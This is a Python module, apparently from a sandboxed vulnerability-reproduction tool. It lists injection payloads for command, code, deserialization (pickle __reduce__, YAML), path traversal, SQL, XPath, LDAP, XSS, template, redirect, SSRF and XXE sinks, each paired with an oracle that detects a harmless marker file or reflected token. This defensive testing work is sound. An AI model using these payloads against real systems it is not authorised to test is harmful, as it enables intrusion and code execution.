"""What is sent for each kind of sink, and by what one sees that it did harm there.

Every payload carries a token that occurs nowhere else. A kind's oracle looks at what reached the instrumented place, at
traces in the file system, and at the response; it says harm only for what the defect makes possible and the harmless
control cannot do.
"""

from __future__ import annotations

import base64
import os
import pickle
from collections.abc import Callable, Iterator
from typing import TYPE_CHECKING, NamedTuple
from urllib.parse import urlsplit

TRACES = "/tmp/reproducer"  # inside the sandbox, where it is ours alone


MARK_VARIABLE = "REPRODUCER_MARK"
"""Environment variable with the path of the file by which a payload shows that it ran."""


class Response(NamedTuple):
    """What a route answered; all empty for a plain function."""

    status: int = 0
    location: str = ""
    content_type: str = ""
    body: str = ""


class Sight(NamedTuple):
    """What one attempt showed."""

    texts: list[str]
    """What reached the sink."""
    opened: list[str]
    """Names of files opened while the sink was at work."""
    response: Response


if TYPE_CHECKING:  # Python 3.8 cannot subscript these
    Oracle = Callable[[str, str, Sight], str]
    """(token, payload, sight) -> how the harm shows, '' when it does not."""


class Attack(NamedTuple):
    """One thing to send."""

    payload: str | bytes
    oracle: Oracle
    control: str | bytes = "harmless"
    """A harmless value of the same sort."""


def attacks(kind: str, token: str) -> list[Attack]:
    """In the order in which they are tried; empty for a kind without an oracle."""
    build = _KINDS.get(kind)
    return list(build(token)) if build else []


def _mark(token: str) -> str:
    return f"{TRACES}/{token}"


def _left_a_mark(token: str, payload: str, sight: Sight) -> str:
    del payload, sight
    return f"what was sent ran: it made the file {_mark(token)}" if os.path.exists(_mark(token)) else ""


def _command(token: str) -> Iterator[Attack]:
    """Without a slash first, since a part of a path cannot hold one; the variable is in the sandbox's environment."""
    touch, plain = f"touch ${MARK_VARIABLE}", f"touch {_mark(token)}"
    for payload in (f"x;{touch};#", f"x';{touch};'", f'x";{touch};"', f"x$({touch})", f"x|{touch}", f"x\n{touch}\n"):
        yield Attack(payload, _left_a_mark)
    yield Attack(f"x;{plain};#", _left_a_mark)


def _code(token: str) -> Iterator[Attack]:
    effect = f"open('{_mark(token)}','w')"
    double = effect.replace("'", '"')
    for payload in (effect, f"'+str({double})+'", f'"+str({effect})+"', f"1 or {effect}", f"x\n{effect}\n"):
        yield Attack(payload, _left_a_mark)


class _Touch:
    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return open, (self.path, "w")


def _deserialization(token: str) -> Iterator[Attack]:
    harmful, harmless = pickle.dumps(_Touch(_mark(token))), pickle.dumps({"harmless": 1})
    encodings: tuple[Callable[[bytes], str | bytes], ...] = (
        bytes,
        base64.b64encode,
        base64.urlsafe_b64encode,
        bytes.hex,
    )
    for encode in encodings:
        yield Attack(encode(harmful), _left_a_mark, encode(harmless))
    yield Attack(pickle.dumps(_Touch(_mark(token)), 0), _left_a_mark, pickle.dumps({"harmless": 1}, 0))
    yield Attack(f"!!python/object/apply:builtins.open ['{_mark(token)}', w]", _left_a_mark)


def _path(token: str) -> Iterator[Attack]:
    target = f"tmp/reproducer/{token}"
    for payload in (f"{'../' * 12}{target}", f"/{target}", f"x/{'../' * 12}{target}"):
        yield Attack(payload, _left_the_folder)


def _left_the_folder(token: str, payload: str, sight: Sight) -> str:
    del payload
    for text in (*sight.texts, *sight.opened):
        if os.path.normpath(os.path.join(os.getcwd(), text)).startswith(_mark(token)):
            return f"the name that reached it is `{text}`, which lies outside of every folder of the project"
    return ""


def _sql(token: str) -> Iterator[Attack]:
    for payload in (f"x' OR '{token}'='{token}", f'x" OR "{token}"="{token}', f"0 OR '{token}'='{token}'"):
        yield Attack(payload, _left_the_literal)


def _xpath(token: str) -> Iterator[Attack]:
    for payload in (f"x' or '{token}'='{token}", f'x" or "{token}"="{token}'):
        yield Attack(payload, _left_the_literal)


def _left_the_literal(token: str, payload: str, sight: Sight) -> str:
    """In the text of the statement the payload's OR stands outside of every quoted literal."""
    del token
    operator = payload.upper().find(" OR ") + 1
    for text in sight.texts if operator else ():
        at = text.find(payload)
        if at >= 0 and not _quoted(text, at + operator):
            return f"the statement that reached it is `{text}`, where what was sent is syntax"
    return ""


def _quoted(text: str, position: int) -> bool:
    """Whether `position` lies inside a quoted literal; a doubled quote stays inside."""
    quote = ""
    for character in text[:position]:
        if not quote and character in "'\"":
            quote = character
        elif character == quote:
            quote = ""
    return bool(quote)


def _ldap(token: str) -> Iterator[Attack]:
    yield Attack(f"*)(cn={token}", _arrived_whole)


def _arrived_whole(token: str, payload: str, sight: Sight) -> str:
    del token
    text = next((t for t in sight.texts if payload in t), "")
    return f"the filter that reached it is `{text}`, with what was sent as syntax" if text else ""


def _html(token: str) -> Iterator[Attack]:
    for payload in (f"<script>{token}</script>", f'"><script>{token}</script>'):
        yield Attack(payload, _in_the_page)


def _in_the_page(token: str, payload: str, sight: Sight) -> str:
    response = sight.response
    if "html" in response.content_type and f"<script>{token}</script>" in response.body and payload:
        return f"the page ({response.content_type}) holds `<script>{token}</script>` as sent"
    return ""


def _template(token: str) -> Iterator[Attack]:
    left, right = (int(part, 16) + 1000 for part in (token[:4], token[4:8]))

    def evaluated(token: str, payload: str, sight: Sight) -> str:
        del token
        product = str(left * right)
        if product in sight.response.body and product not in payload:
            return f"the answer holds {product}, the value of `{payload}`"
        return ""

    for form in ("{{%d*%d}}", "${%d*%d}", "<%%=%d*%d%%>"):
        yield Attack(form % (left, right), evaluated)


def _redirect(token: str) -> Iterator[Attack]:
    for payload in (f"https://{token}.example/", f"//{token}.example/", f"/\\{token}.example/"):
        yield Attack(payload, _sent_away)


def _sent_away(token: str, payload: str, sight: Sight) -> str:
    del payload
    response = sight.response
    target = response.location.replace("\\", "/")
    if 300 <= response.status < 400 and _host(target) == f"{token}.example":
        return f"the answer is {response.status} with `Location: {response.location}`"
    return ""


def _host(url: str) -> str:
    try:
        return urlsplit(url).hostname or ""
    except ValueError:
        return ""


def _ssrf(token: str) -> Iterator[Attack]:
    for payload in (f"http://{token}.example/", f"{token}.example", f"@{token}.example/", f".{token}.example/"):
        yield Attack(payload, _calls_out)


def _calls_out(token: str, payload: str, sight: Sight) -> str:
    del payload
    for text in sight.texts:
        if _host(text).endswith(f"{token}.example"):
            return f"the address that reached it is `{text}`, on the host that was sent"
    return ""


def _xxe(token: str) -> Iterator[Attack]:
    yield Attack(
        f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file://{_mark(token)}">]><r>&e;</r>', _read_the_entity
    )


def _read_the_entity(token: str, payload: str, sight: Sight) -> str:
    del payload
    if any(name.endswith(_mark(token)) for name in sight.opened):
        return f"the parser opened {_mark(token)}, which the document names as an entity"
    return ""


_KINDS: dict[str, Callable[[str], Iterator[Attack]]] = {
    "command": _command,
    "code": _code,
    "deserialization": _deserialization,
    "path": _path,
    "sql": _sql,
    "xpath": _xpath,
    "ldap": _ldap,
    "html": _html,
    "template": _template,
    "redirect": _redirect,
    "ssrf": _ssrf,
    "xxe": _xxe,
}
